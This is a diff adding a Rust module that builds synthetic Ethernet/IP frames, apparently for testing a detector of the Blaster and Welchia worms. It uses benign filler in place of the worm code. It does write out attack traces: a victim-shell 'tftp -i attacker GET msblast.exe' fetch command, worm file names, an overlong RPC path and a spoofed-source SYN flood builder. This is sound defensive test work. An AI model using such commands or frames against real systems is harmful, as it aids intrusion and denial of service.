@@ -1,0 +1,562 @@
+//! Building frames: generic Ethernet/IPv4/TCP/UDP/ICMP frames with correct
+//! checksums (etherparse's `PacketBuilder`), re-framing for other link
+//! types, and the worm's *observable* traffic with benign filler.
+//!
+//! What it is for: captures made in tests, the synthetic capture behind the
+//! throughput benchmark ([`crate::synth`]), and later the export of a
+//! simulated outbreak as a capture.
+//!
+//! What it may not touch: the network — nothing here sends a packet, opens
+//! a socket or knows an interface. And no worm code: where Blaster carried
+//! code or exploit bytes, these builders put benign filler (repeated ASCII
+//! letters, zeros, 0xAA as Welchia's echo data is described). The DCE/RPC
+//! request is a simplified stand-in ([`crate::dcerpc::activation_stub`]) that
+//! carries a long run of 'A' where a detector measures a server name.
+//! Nothing is copied from the worm or from exploit code.
+
+use std::net::Ipv4Addr;
+
+use etherparse::{IpHeaders, Ipv4Extensions, Ipv4Header, PacketBuilder};
+
+use crate::capture::LinkType;
+use crate::dcerpc;
+use crate::decode::tcp_flags;
+use crate::tftp;
+
+/// A host as the builders need it: MAC and IPv4 address.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+pub struct Host {
+    /// Ethernet address.
+    pub mac: [u8; 6],
+    /// IPv4 address.
+    pub ip: Ipv4Addr,
+}
+
+impl Host {
+    /// A host whose MAC is derived from its address (locally administered).
+    pub fn new(ip: Ipv4Addr) -> Host {
+        let o = ip.octets();
+        Host {
+            mac: [0x02, 0x00, o[0], o[1], o[2], o[3]],
+            ip,
+        }
+    }
+}
+
+/// IP-level options of a built packet.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct IpOpts {
+    /// Time to live.
+    pub ttl: u8,
+    /// Identification.
+    pub ident: u16,
+}
+
+impl Default for IpOpts {
+    fn default() -> Self {
+        // 128: the Windows default of the era.
+        IpOpts {
+            ttl: 128,
+            ident: 0x1234,
+        }
+    }
+}
+
+fn ip(src: &Host, dst: &Host, o: IpOpts) -> IpHeaders {
+    let mut h = Ipv4Header::new(
+        0,
+        o.ttl,
+        etherparse::IpNumber::TCP,
+        src.ip.octets(),
+        dst.ip.octets(),
+    )
+    .unwrap_or_default();
+    h.identification = o.ident;
+    IpHeaders::Ipv4(h, Ipv4Extensions::default())
+}
+
+/// A TCP segment's parameters.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct TcpParams {
+    /// Source port.
+    pub src_port: u16,
+    /// Destination port.
+    pub dst_port: u16,
+    /// Sequence number.
+    pub seq: u32,
+    /// Acknowledgment number (used when `flags` has ACK).
+    pub ack: u32,
+    /// Flags (see [`tcp_flags`]).
+    pub flags: u8,
+    /// Window.
+    pub window: u16,
+}
+
+/// An Ethernet/IPv4/TCP frame with correct checksums.
+pub fn tcp_frame(src: &Host, dst: &Host, o: IpOpts, t: TcpParams, payload: &[u8]) -> Vec<u8> {
+    let mut b = PacketBuilder::ethernet2(src.mac, dst.mac)
+        .ip(ip(src, dst, o))
+        .tcp(t.src_port, t.dst_port, t.seq, t.window);
+    if t.flags & tcp_flags::SYN != 0 {
+        b = b.syn();
+    }
+    if t.flags & tcp_flags::ACK != 0 {
+        b = b.ack(t.ack);
+    }
+    if t.flags & tcp_flags::RST != 0 {
+        b = b.rst();
+    }
+    if t.flags & tcp_flags::FIN != 0 {
+        b = b.fin();
+    }
+    if t.flags & tcp_flags::PSH != 0 {
+        b = b.psh();
+    }
+    let mut out = Vec::with_capacity(b.size(payload.len()));
+    // Writing into a Vec cannot fail; a payload too large for IPv4 is the
+    // only error, and the builders here never make one.
+    let _ = b.write(&mut out, payload);
+    out
+}
+
+/// An Ethernet/IPv4/UDP frame with correct checksums.
+pub fn udp_frame(
+    src: &Host,
+    dst: &Host,
+    o: IpOpts,
+    src_port: u16,
+    dst_port: u16,
+    payload: &[u8],
+) -> Vec<u8> {
+    let b = PacketBuilder::ethernet2(src.mac, dst.mac)
+        .ip(ip(src, dst, o))
+        .udp(src_port, dst_port);
+    let mut out = Vec::with_capacity(b.size(payload.len()));
+    let _ = b.write(&mut out, payload);
+    out
+}
+
+/// An Ethernet/IPv4/ICMP echo request with correct checksums.
+pub fn icmp_echo_frame(
+    src: &Host,
+    dst: &Host,
+    o: IpOpts,
+    id: u16,
+    seq: u16,
+    data: &[u8],
+) -> Vec<u8> {
+    let b = PacketBuilder::ethernet2(src.mac, dst.mac)
+        .ip(ip(src, dst, o))
+        .icmpv4_echo_request(id, seq);
+    let mut out = Vec::with_capacity(b.size(data.len()));
+    let _ = b.write(&mut out, data);
+    out
+}
+
+/// An Ethernet/IPv4/ICMP echo reply with correct checksums.
+pub fn icmp_echo_reply_frame(
+    src: &Host,
+    dst: &Host,
+    o: IpOpts,
+    id: u16,
+    seq: u16,
+    data: &[u8],
+) -> Vec<u8> {
+    let b = PacketBuilder::ethernet2(src.mac, dst.mac)
+        .ip(ip(src, dst, o))
+        .icmpv4_echo_reply(id, seq);
+    let mut out = Vec::with_capacity(b.size(data.len()));
+    let _ = b.write(&mut out, data);
+    out
+}
+
+/// Re-frames an Ethernet II frame (no VLAN tag) for another link type:
+/// raw IP, Linux SLL or SLL2 (both "received by us", ARPHRD_ETHER). Returns
+/// the frame unchanged for Ethernet.
+pub fn relink(eth: &[u8], link: LinkType) -> Vec<u8> {
+    let Some(payload) = eth.get(14..) else {
+        return eth.to_vec();
+    };
+    let ether_type = [eth[12], eth[13]];
+    let src_mac = &eth[6..12];
+    match link {
+        LinkType::RAW | LinkType::DLT_RAW_12 | LinkType::DLT_RAW_14 | LinkType::IPV4 => {
+            payload.to_vec()
+        }
+        LinkType::LINUX_SLL => {
+            let mut out = Vec::with_capacity(16 + payload.len());
+            out.extend_from_slice(&0u16.to_be_bytes()); // packet type: to us
+            out.extend_from_slice(&1u16.to_be_bytes()); // ARPHRD_ETHER
+            out.extend_from_slice(&6u16.to_be_bytes()); // address length
+            out.extend_from_slice(src_mac);
+            out.extend_from_slice(&[0, 0]);
+            out.extend_from_slice(&ether_type);
+            out.extend_from_slice(payload);
+            out
+        }
+        LinkType::LINUX_SLL2 => {
+            let mut out = Vec::with_capacity(20 + payload.len());
+            out.extend_from_slice(&ether_type);
+            out.extend_from_slice(&[0, 0]); // reserved
+            out.extend_from_slice(&2u32.to_be_bytes()); // interface index
+            out.extend_from_slice(&1u16.to_be_bytes()); // ARPHRD_ETHER
+            out.push(0); // packet type: to us
+            out.push(6); // address length
+            out.extend_from_slice(src_mac);
+            out.extend_from_slice(&[0, 0]);
+            out.extend_from_slice(payload);
+            out
+        }
+        _ => eth.to_vec(),
+    }
+}
+
+/// Inserts an 802.1Q tag (TPID 0x8100) with VLAN id `vid` after the MAC
+/// addresses; call twice with `tpid` 0x88a8 outside for QinQ.
+pub fn add_vlan(eth: &[u8], tpid: u16, vid: u16) -> Vec<u8> {
+    if eth.len() < 14 {
+        return eth.to_vec();
+    }
+    let mut out = Vec::with_capacity(eth.len() + 4);
+    out.extend_from_slice(&eth[..12]);
+    out.extend_from_slice(&tpid.to_be_bytes());
+    out.extend_from_slice(&(vid & 0x0fff).to_be_bytes());
+    out.extend_from_slice(&eth[12..]);
+    out
+}
+
+/// A TCP connection between two hosts, tracking sequence numbers so that
+/// its frames form a consistent session.
+#[derive(Clone, Debug)]
+pub struct TcpFlow {
+    /// The side that opens.
+    pub client: Host,
+    /// The side that listens.
+    pub server: Host,
+    /// Client port.
+    pub client_port: u16,
+    /// Server port.
+    pub server_port: u16,
+    /// Next client sequence number.
+    pub client_seq: u32,
+    /// Next server sequence number.
+    pub server_seq: u32,
+    /// Window advertised by both sides.
+    pub window: u16,
+}
+
+impl TcpFlow {
+    /// A flow with fixed initial sequence numbers.
+    pub fn new(client: Host, client_port: u16, server: Host, server_port: u16) -> TcpFlow {
+        TcpFlow {
+            client,
+            server,
+            client_port,
+            server_port,
+            client_seq: 0x1000_0000 ^ u32::from(client_port),
+            server_seq: 0x2000_0000 ^ u32::from(server_port),
+            window: 64240,
+        }
+    }
+
+    fn c2s(&mut self, flags: u8, payload: &[u8]) -> Vec<u8> {
+        let t = TcpParams {
+            src_port: self.client_port,
+            dst_port: self.server_port,
+            seq: self.client_seq,
+            ack: self.server_seq,
+            flags,
+            window: self.window,
+        };
+        let f = tcp_frame(&self.client, &self.server, IpOpts::default(), t, payload);
+        let syn_fin = u32::from(flags & (tcp_flags::SYN | tcp_flags::FIN) != 0);
+        self.client_seq = self.client_seq.wrapping_add(payload.len() as u32 + syn_fin);
+        f
+    }
+
+    fn s2c(&mut self, flags: u8, payload: &[u8]) -> Vec<u8> {
+        let t = TcpParams {
+            src_port: self.server_port,
+            dst_port: self.client_port,
+            seq: self.server_seq,
+            ack: self.client_seq,
+            flags,
+            window: self.window,
+        };
+        let f = tcp_frame(&self.server, &self.client, IpOpts::default(), t, payload);
+        let syn_fin = u32::from(flags & (tcp_flags::SYN | tcp_flags::FIN) != 0);
+        self.server_seq = self.server_seq.wrapping_add(payload.len() as u32 + syn_fin);
+        f
+    }
+
+    /// The client's SYN.
+    pub fn syn(&mut self) -> Vec<u8> {
+        self.c2s(tcp_flags::SYN, &[])
+    }
+    /// The server's SYN-ACK.
+    pub fn syn_ack(&mut self) -> Vec<u8> {
+        self.s2c(tcp_flags::SYN | tcp_flags::ACK, &[])
+    }
+    /// The server's RST-ACK refusing the connection.
+    pub fn refuse(&mut self) -> Vec<u8> {
+        self.s2c(tcp_flags::RST | tcp_flags::ACK, &[])
+    }
+    /// The three-way handshake: SYN, SYN-ACK, ACK.
+    pub fn handshake(&mut self) -> Vec<Vec<u8>> {
+        let a = self.syn();
+        let b = self.syn_ack();
+        let c = self.c2s(tcp_flags::ACK, &[]);
+        vec![a, b, c]
+    }
+    /// Data from client to server (PSH-ACK).
+    pub fn client_data(&mut self, payload: &[u8]) -> Vec<u8> {
+        self.c2s(tcp_flags::PSH | tcp_flags::ACK, payload)
+    }
+    /// Data from server to client (PSH-ACK).
+    pub fn server_data(&mut self, payload: &[u8]) -> Vec<u8> {
+        self.s2c(tcp_flags::PSH | tcp_flags::ACK, payload)
+    }
+    /// A bare ACK from the client.
+    pub fn client_ack(&mut self) -> Vec<u8> {
+        self.c2s(tcp_flags::ACK, &[])
+    }
+    /// A bare ACK from the server.
+    pub fn server_ack(&mut self) -> Vec<u8> {
+        self.s2c(tcp_flags::ACK, &[])
+    }
+    /// Client FIN, server FIN, client ACK.
+    pub fn close(&mut self) -> Vec<Vec<u8>> {
+        let a = self.c2s(tcp_flags::FIN | tcp_flags::ACK, &[]);
+        let b = self.s2c(tcp_flags::FIN | tcp_flags::ACK, &[]);
+        let c = self.c2s(tcp_flags::ACK, &[]);
+        vec![a, b, c]
+    }
+}
+
+/// The worm's observable traffic, with benign filler where it carried code.
+pub mod worm {
+    use super::*;
+
+    /// The worm's file names: msblast.exe and the variants' names (MODEL.md
+    /// section 1). Lower case.
+    pub const WORM_FILENAMES: [&str; 5] = [
+        "msblast.exe",
+        "penis32.exe",
+        "teekids.exe",
+        "mslaugh.exe",
+        "enbiei.exe",
+    ];
+
+    /// Size of msblast.exe (MODEL.md section 1, SANS): a TFTP transfer of
+    /// this many bytes is 12 full blocks and a last block of 32.
+    pub const MSBLAST_SIZE: usize = 6176;
+
+    /// The filler byte used where the worm carried code.
+    pub const FILLER: u8 = b'A';
+
+    /// A probe: a SYN to 135/tcp (the first packet of each of the worm's
+    /// connection attempts). Plain SYN, window 64240, TTL 128.
+    pub fn probe_syn(attacker: &Host, target: &Host, src_port: u16, seq: u32) -> Vec<u8> {
+        tcp_frame(
+            attacker,
+            target,
+            IpOpts::default(),
+            TcpParams {
+                src_port,
+                dst_port: 135,
+                seq,
+                ack: 0,
+                flags: tcp_flags::SYN,
+                window: 64240,
+            },
+            &[],
+        )
+    }
+
+    /// The DCE/RPC bind to ISystemActivator, as PDU bytes (TCP payload).
+    pub fn dcerpc_bind(call_id: u32) -> Vec<u8> {
+        dcerpc::bind_isystemactivator(call_id).to_bytes()
+    }
+
+    /// A DCE/RPC request whose stub holds a UNC path with an overlong
+    /// server-name component made of `name_chars` filler letters ('A').
+    /// Benign: the bytes are letters and zeros, not code, and the stub is a
+    /// simplified stand-in, not a DCOM activation.
+    pub fn dcerpc_overlong_request(call_id: u32, name_chars: usize) -> Vec<u8> {
+        let name: String = std::iter::repeat_n(FILLER as char, name_chars).collect();
+        dcerpc_request_with_path(call_id, &format!("\\\\{name}\\c$\\file.txt"))
+    }
+
+    /// A DCE/RPC request carrying an ordinary path (legitimate activation
+    /// traffic in the negative tests).
+    pub fn dcerpc_request_with_path(call_id: u32, path: &str) -> Vec<u8> {
+        let stub = dcerpc::activation_stub(path);
+        dcerpc::Repr::Request {
+            call_id,
+            alloc_hint: stub.len() as u32,
+            context_id: 0,
+            opnum: dcerpc::ACTIVATION_OPNUM,
+            stub: &stub,
+        }
+        .to_bytes()
+    }
+
+    /// The command line the attacker types into the victim's shell on
+    /// 4444/tcp (MODEL.md section 1, step 3), plain text.
+    pub fn tftp_command(attacker: Ipv4Addr, filename: &str) -> String {
+        format!("tftp -i {attacker} GET {filename}\n")
+    }
+
+    /// A Windows command-shell banner, as a shell on 4444/tcp greets the
+    /// connecting side (plain text, what the ET "cmd banner" id refers to).
+    pub const CMD_BANNER: &str = "Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>";
+
+    /// A TFTP read request for `filename` in mode octet (UDP payload).
+    pub fn tftp_rrq(filename: &str) -> Vec<u8> {
+        tftp::Repr::ReadRequest {
+            filename: filename.as_bytes(),
+            mode: b"octet",
+        }
+        .to_bytes()
+    }
+
+    /// A TFTP DATA packet of block `block` holding `len` (at most 512)
+    /// filler bytes (UDP payload).
+    pub fn tftp_data(block: u16, len: usize) -> Vec<u8> {
+        let filler = vec![FILLER; len.min(tftp::BLOCK_SIZE)];
+        tftp::Repr::Data {
+            block,
+            data: &filler,
+        }
+        .to_bytes()
+    }
+
+    /// A TFTP ACK (UDP payload).
+    pub fn tftp_ack(block: u16) -> Vec<u8> {
+        tftp::Repr::Ack { block }.to_bytes()
+    }
+
+    /// One SYN of the payload's flood (MODEL.md section 1): 40 bytes of
+    /// IPv4+TCP (no options), to port 80, source port in 1000-1999, TTL 128,
+    /// window 16384; the source is spoofed (the caller picks an address in
+    /// the sender's own /16).
+    pub fn flood_syn(
+        sender_mac: [u8; 6],
+        gateway_mac: [u8; 6],
+        spoofed_src: Ipv4Addr,
+        target: Ipv4Addr,
+        src_port: u16,
+        seq: u32,
+    ) -> Vec<u8> {
+        let src = Host {
+            mac: sender_mac,
+            ip: spoofed_src,
+        };
+        let dst = Host {
+            mac: gateway_mac,
+            ip: target,
+        };
+        tcp_frame(
+            &src,
+            &dst,
+            IpOpts {
+                ttl: 128,
+                ident: seq as u16,
+            },
+            TcpParams {
+                src_port: 1000 + src_port % 1000,
+                dst_port: 80,
+                seq,
+                ack: 0,
+                flags: tcp_flags::SYN,
+                window: 16384,
+            },
+            &[],
+        )
+    }
+
+    /// Welchia's echo data: 64 bytes of 0xAA. MODEL.md says "92-byte
+    /// packets, 0xAA payload"; we read 92 as the IP datagram's total length
+    /// (a packet is the datagram), so 92 = 20 (IPv4 header) + 8 (ICMP echo
+    /// header) + 64 bytes of 0xAA data.
+    pub const WELCHIA_DATA_LEN: usize = 64;
+    /// The IP total length of a Welchia echo request.
+    pub const WELCHIA_IP_LEN: u16 = 92;
+
+    /// One ICMP echo request of Welchia's sweep (92-byte datagram, 0xAA
+    /// data).
+    pub fn welchia_echo(src: &Host, dst: &Host, id: u16, seq: u16) -> Vec<u8> {
+        icmp_echo_frame(
+            src,
+            dst,
+            IpOpts::default(),
+            id,
+            seq,
+            &[0xAA; WELCHIA_DATA_LEN],
+        )
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::decode::{Decoded, Transport, decode};
+
+    fn h(s: &str) -> Host {
+        Host::new(s.parse().unwrap())
+    }
+
+    #[test]
+    fn flood_syn_is_40_bytes_of_ip() {
+        let f = worm::flood_syn(
+            [2; 6],
+            [4; 6],
+            "10.1.77.3".parse().unwrap(),
+            "203.0.113.80".parse().unwrap(),
+            1234,
+            99,
+        );
+        assert_eq!(f.len(), 14 + 40);
+        let Decoded::Ipv4(p) = decode(LinkType::ETHERNET, &f) else {
+            panic!()
+        };
+        assert_eq!((p.total_len, p.ttl), (40, 128));
+        let Transport::Tcp(t) = p.transport else {
+            panic!()
+        };
+        assert_eq!((t.dst_port, t.src_port, t.window), (80, 1234, 16384));
+        assert!(t.is_syn_only());
+    }
+
+    #[test]
+    fn welchia_echo_is_92_bytes_of_ip() {
+        let f = worm::welchia_echo(&h("10.0.0.5"), &h("10.0.0.6"), 1, 2);
+        let Decoded::Ipv4(p) = decode(LinkType::ETHERNET, &f) else {
+            panic!()
+        };
+        assert_eq!(p.total_len, 92);
+        let Transport::Icmp(i) = p.transport else {
+            panic!()
+        };
+        assert_eq!(i.icmp_type, 8);
+        assert!(i.payload.len() == 64 && i.payload.iter().all(|&b| b == 0xAA));
+    }
+
+    #[test]
+    fn checksums_are_correct() {
+        let mut flow = TcpFlow::new(h("10.0.0.1"), 1025, h("10.0.0.2"), 135);
+        flow.handshake();
+        let f = flow.client_data(&worm::dcerpc_bind(1));
+        let p = etherparse::SlicedPacket::from_ethernet(&f).unwrap();
+        let Some(etherparse::NetSlice::Ipv4(ip)) = p.net else {
+            panic!()
+        };
+        let hdr = ip.header().to_header();
+        assert_eq!(hdr.header_checksum, hdr.calc_header_checksum());
+        let Some(etherparse::TransportSlice::Tcp(t)) = p.transport else {
+            panic!()
+        };
+        let calc = t.to_header().calc_checksum_ipv4(&hdr, t.payload()).unwrap();
+        assert_eq!(t.checksum(), calc);
+    }
+}
